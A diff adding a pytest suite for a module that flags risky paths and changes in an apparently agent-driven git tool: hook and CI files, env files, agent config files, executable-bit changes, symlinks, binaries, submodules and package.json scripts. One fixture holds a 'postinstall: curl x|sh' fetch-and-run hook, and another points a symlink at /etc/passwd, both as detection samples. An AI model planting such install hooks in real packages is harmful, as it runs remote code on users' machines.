@@ -1,0 +1,111 @@
+"""The risk table: what is flagged, what is not."""
+
+from __future__ import annotations
+
+import pytest
+
+from git_agent import risks
+from git_agent.risks import MODE_EXEC, MODE_FILE, MODE_GITLINK, MODE_LINK, assess
+
+
+def flagged(path: str, **kw: object) -> list[str]:
+    kw.setdefault("old_mode", MODE_FILE)
+    kw.setdefault("new_mode", MODE_FILE)
+    kw.setdefault("new_data", b"x\n")
+    return assess(path=path, **kw)  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".husky/pre-commit", "web/.husky/pre-push", ".pre-commit-config.yaml", "lefthook.yml",
+        ".githooks/pre-commit", ".gitattributes", "sub/.gitattributes", ".gitmodules",
+        ".envrc", "sub/.envrc", ".env", ".env.local", ".github/workflows/ci.yml",
+        ".github/workflows/sub/x.yaml", ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile",
+        ".vscode/tasks.json", ".VSCode/settings.json", "proj.code-workspace", ".idea/workspace.xml",
+        ".devcontainer/devcontainer.json", ".claude/settings.json", ".claude/commands/x.md",
+        ".mcp.json", "CLAUDE.md", "AGENTS.md", "pkg/AGENTS.md", "Makefile", "src/Makefile",
+        "rules.mk", "CMakeLists.txt", "setup.py", "pyproject.toml", "tests/conftest.py",
+        "Dockerfile", "docker/Dockerfile.dev", "docker-compose.yml", "build.rs", "Cargo.toml",
+        "requirements-dev.txt", "yarn.lock", "sitecustomize.py", "x.pth", "gradlew",
+        "gradle/wrapper/gradle-wrapper.properties", ".cargo/config.toml", "sub/.git",
+        "vendor/lib/.git/config", ".cursor/rules/a.mdc", "Gemfile", "x.gemspec", "flake.nix",
+    ],
+)
+def test_sensitive_paths_are_flagged(path: str) -> None:
+    assert flagged(path), path
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "src/main.py", "README.md", "docs/index.rst", "lib/x.js", "github/workflows.txt",
+        "my.vscode/notes", "src/claude.py", "Makefile.txt.bak/readme", "tests/test_x.py",
+        "env.py", "src/environment.ts", "make.py", "docker.md",
+    ],
+)
+def test_plain_source_edits_are_not_flagged(path: str) -> None:
+    assert flagged(path) == [], path
+
+
+def test_every_rule_has_a_one_line_reason() -> None:
+    for rule in risks.RULES:
+        assert rule.reason and "\n" not in rule.reason and len(rule.reason) < 90
+
+
+def test_matching_is_case_insensitive() -> None:
+    assert flagged(".GitHub/Workflows/ci.yml") == flagged(".github/workflows/ci.yml")
+
+
+def test_becomes_executable() -> None:
+    assert "becomes executable" in flagged("src/a.sh", new_mode=MODE_EXEC)
+    assert "new executable file" in flagged("src/a.sh", old_mode=0, new_mode=MODE_EXEC)
+    assert flagged("src/a.sh", old_mode=MODE_EXEC, new_mode=MODE_EXEC) == []
+    assert flagged("src/a.sh", old_mode=MODE_EXEC, new_mode=MODE_FILE) == []
+
+
+@pytest.mark.parametrize(
+    ("path", "target", "flag"),
+    [
+        ("a/link", b"/etc/passwd", "absolute"),
+        ("a/link", b"../../x", "outside"),
+        ("link", b"../x", "outside"),
+        ("a/link", b"../.git/config", ".git"),
+        ("a/link", b"../b/c", None),
+        ("link", b"src/x", None),
+        ("a/link", b"./x/../y", None),
+    ],
+)
+def test_symlink_targets(path: str, target: bytes, flag: str | None) -> None:
+    got = flagged(path, old_mode=0, new_mode=MODE_LINK, new_data=target)
+    if flag is None:
+        assert got == []
+    else:
+        assert len(got) == 1 and flag in got[0]
+
+
+def test_binary_files() -> None:
+    assert any("binary" in r for r in flagged("img.png", new_data=b"\x89PNG\r\n\x00\x00"))
+    assert flagged("img.txt", new_data=b"text" * 3000 + b"\0") == []  # beyond git's sniff window
+
+
+def test_submodule() -> None:
+    assert flagged("vendor/lib", old_mode=MODE_GITLINK, new_mode=MODE_GITLINK, new_data=None)
+
+
+def test_package_json_only_flags_keys_that_run_code() -> None:
+    old = b'{"name": "x", "version": "1.0.0", "scripts": {"test": "jest"}}'
+    bump = b'{"name": "x", "version": "1.0.1", "scripts": {"test": "jest"}}'
+    evil = b'{"name": "x", "version": "1.0.0", "scripts": {"test": "jest", "postinstall": "curl x|sh"}}'
+    deps = b'{"name": "x", "version": "1.0.0", "scripts": {"test": "jest"}, "dependencies": {"a": "1"}}'
+    assert flagged("package.json", old_data=old, new_data=bump) == []
+    assert flagged("package.json", old_data=old, new_data=evil) == ["package.json scripts: npm runs them"]
+    assert flagged("web/package.json", old_data=old, new_data=deps) == [
+        "package.json dependencies: installs run their scripts"]
+    assert "parse" in flagged("package.json", old_data=old, new_data=b"{oops")[0]
+    assert flagged("package.json", old_mode=0, old_data=None, new_data=evil)
+
+
+def test_reasons_are_not_repeated() -> None:
+    got = flagged(".github/workflows/run.sh", old_mode=0, new_mode=MODE_EXEC)
+    assert len(got) == len(set(got)) == 2
